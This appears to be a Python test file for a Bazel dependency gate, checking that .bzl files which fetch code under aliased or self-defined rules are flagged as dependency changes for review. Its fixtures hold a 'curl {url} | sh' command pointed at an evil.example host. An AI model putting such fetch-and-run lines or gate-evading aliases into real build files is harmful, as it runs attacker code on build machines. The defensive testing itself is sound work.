"""Attack 30 on cfgarg2's Bazel reader (bazelreads.py): .bzl files that fetch under another spelling.

A `.bzl` file MODULE.bazel or WORKSPACE loads is deps when it calls a repository fetch rule (`http_archive(`). Spelled
another way it was src, and a change swapping the archive was allowed by `gate --tree --enable deps` (exit 0 on
a580b88, 4 of 4): the fetch rule loaded under another name (`load(..., _archive = "http_archive")` then
`_archive(...)`), and a repository rule or module extension the file defines itself, whose implementation downloads
(`ctx.download_and_extract`) or runs a command (`ctx.execute`) when Bazel fetches it.
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

ALIASED = ('load("@bazel_tools//tools/build_defs/repo:http.bzl", _archive = "http_archive")\n'
           'def deps():\n    _archive(\n        name = "z",\n        urls = ["{url}"],\n    )\n')
RULE = ('def _impl(ctx):\n    ctx.download_and_extract(url = "{url}")\n    ctx.file("BUILD", "")\n'
        'tools_repo = repository_rule(implementation = _impl)\n')
EXTENSION = ('def _impl(mctx):\n    mctx.execute(["sh", "-c", "curl {url} | sh"])\n'
             'tools = module_extension(implementation = _impl)\n')
GOOD, EVIL = "https://zlib.net/zlib-1.3.tar.gz", "https://evil.example/zlib.tar.gz"

# name: (base files, the file edited, its text with {url})
CASES: dict[str, tuple[dict[str, str], str, str]] = {
    "aliased http_archive, WORKSPACE": ({"WORKSPACE": 'load("//tools:pins.bzl", "deps")\ndeps()\n'},
                                        "tools/pins.bzl", ALIASED),
    "aliased http_archive, module extension": (
        {"MODULE.bazel": 'ext = use_extension("//tools:pins.bzl", "ext")\n'}, "tools/pins.bzl",
        ALIASED + "ext = module_extension(implementation = lambda ctx: deps())\n"),
    "repository rule": ({"WORKSPACE": 'load("//tools:repo.bzl", "tools_repo")\ntools_repo(name = "t")\n'},
                        "tools/repo.bzl", RULE),
    "module extension, execute": ({"MODULE.bazel": 'tools = use_extension("//build:ext.bzl", "tools")\n'},
                                  "build/ext.bzl", EXTENSION),
}


@each_case("name", sorted(CASES))
def test_a_bzl_file_that_fetches_under_another_spelling_is_deps(tmp_path: Path, name: str) -> None:
    base, path, text = CASES[name]
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", **base, path: text.format(url=GOOD)},
                                    {path: text.format(url=EVIL)})
    found = tree_classify(repo.root, first, last)[path]
    assert (found["bucket"], found["rule"]) == ("deps", "deps.context.included"), found
    code, decision = tree_gate(repo.root, first, last, None, "--enable", "deps")
    assert code == 3 and decision["outcome"] == "review", decision


def test_a_bzl_file_of_build_rules_stays_src(tmp_path: Path) -> None:
    # A rule that builds (`rule(`) fetches nothing: as before.
    text = 'def _impl(ctx):\n    return []\nmy_rule = rule(implementation = _impl, attrs = {{}})  # {url}\n'
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", "WORKSPACE": 'load("//tools:r.bzl", "x")\n',
                                                     "tools/r.bzl": text.format(url="a")},
                                    {"tools/r.bzl": text.format(url="b")})
    assert tree_classify(repo.root, first, last)["tools/r.bzl"]["bucket"] == "src"
